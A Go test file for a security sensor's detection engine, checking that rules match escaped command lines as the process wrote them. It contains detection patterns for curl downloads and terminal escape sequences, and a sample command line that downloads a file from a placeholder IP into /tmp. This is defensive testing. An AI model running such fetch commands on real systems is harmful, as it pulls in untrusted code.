package engine

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.opentelemetry.io/collector/component/componenttest"

	"github.com/vigil-sensor/vigil/processor/detectionprocessor/internal/correlate"
	"github.com/vigil-sensor/vigil/processor/detectionprocessor/internal/rules"
)

const escapedPack = `rules:
  - id: VGL-E-1
    name: curl in a shell script
    description: A shell command line runs curl as a command of its own.
    severity: low
    tactic: {id: TA0011, name: Command and Control}
    technique: {id: T1105, name: Ingress Tool Transfer}
    events: [process.exec]
    condition: IsMatch(attributes["process.command_line"], "(^|\\s)curl\\s")
  - id: VGL-E-2
    name: terminal escape sequence
    description: A command line holds an ANSI escape sequence.
    severity: low
    tactic: {id: TA0005, name: Defense Evasion}
    technique: {id: T1036, name: Masquerading}
    events: [process.exec]
    condition: IsMatch(attributes["process.command_line"], "\\x1b\\[")
`

// A newline the receiver escaped is a newline again to the rules: an
// attacker cannot slip a command past a pattern's \s by putting it on a
// line of its own, and a backslash the process really wrote is not taken
// for an escape.
func TestRulesMatchValuesAsTheProcessGaveThem(t *testing.T) {
	f, err := rules.Parse("escaped.yaml", []byte(escapedPack))
	require.NoError(t, err)
	set, err := rules.Compile([]*rules.File{f}, componenttest.NewNopTelemetrySettings())
	require.NoError(t, err)
	e := New(NewPlan(set), correlate.Limits{MaxKeys: 10, MaxValues: 10}, nil)

	escaped := `sh -c cd /tmp\ncurl -so x http://198.51.100.7/x`
	rl, sl, lr := testRecord("process.exec", map[string]string{"process.command_line": escaped})
	lr.Attributes().PutBool("vigil.record.sanitized", true)
	lr.Attributes().PutEmptySlice("vigil.record.sanitized_attributes").AppendEmpty().SetStr("process.command_line")
	assert.Equal(t, []string{"VGL-E-1"}, ids(evaluate(e, rl, sl, lr)))
	v, _ := lr.Attributes().Get("process.command_line")
	assert.Equal(t, escaped, v.Str(), "the record keeps its escaped form")

	// The same text as a process wrote it, not escaped: a backslash and an n.
	rl, sl, lr = testRecord("process.exec", map[string]string{"process.command_line": escaped})
	assert.Empty(t, evaluate(e, rl, sl, lr))

	rl, sl, lr = testRecord("process.exec", map[string]string{"process.command_line": `echo \x1b[2J`})
	lr.Attributes().PutEmptySlice("vigil.record.sanitized_attributes").AppendEmpty().SetStr("process.command_line")
	assert.Equal(t, []string{"VGL-E-2"}, ids(evaluate(e, rl, sl, lr)), "an escape sequence is matched as one")
}

func TestAsGivenDecodesTheListedValuesAndTheBody(t *testing.T) {
	_, _, lr := testRecord("process.exec", map[string]string{
		"process.command_line":    `a\nb \\x`,
		"process.executable.path": `/bin/a\nb`, // not listed: as it is
	})
	args := lr.Attributes().PutEmptySlice("process.command_args")
	args.AppendEmpty().SetStr(`\x1b[31m`)
	args.AppendEmpty().SetStr(`c:\\d`)
	listed := lr.Attributes().PutEmptySlice("vigil.record.sanitized_attributes")
	listed.AppendEmpty().SetStr("process.command_line")
	listed.AppendEmpty().SetStr("process.command_args")
	lr.Body().SetStr(`exec a\nb \\x`)

	given := asGiven(lr)
	raw := given.Attributes().AsRaw()
	assert.Equal(t, "a\nb \\x", raw["process.command_line"])
	assert.Equal(t, []any{"\x1b[31m", `c:\d`}, raw["process.command_args"])
	assert.Equal(t, `/bin/a\nb`, raw["process.executable.path"])
	assert.Equal(t, "exec a\nb \\x", given.Body().Str())
	assert.Equal(t, `a\nb \\x`, lr.Attributes().AsRaw()["process.command_line"], "the record itself is untouched")

	_, _, clean := testRecord("process.exec", map[string]string{"process.command_line": `a\nb`})
	assert.Equal(t, `a\nb`, asGiven(clean).Attributes().AsRaw()["process.command_line"], "nothing listed, nothing decoded")
}
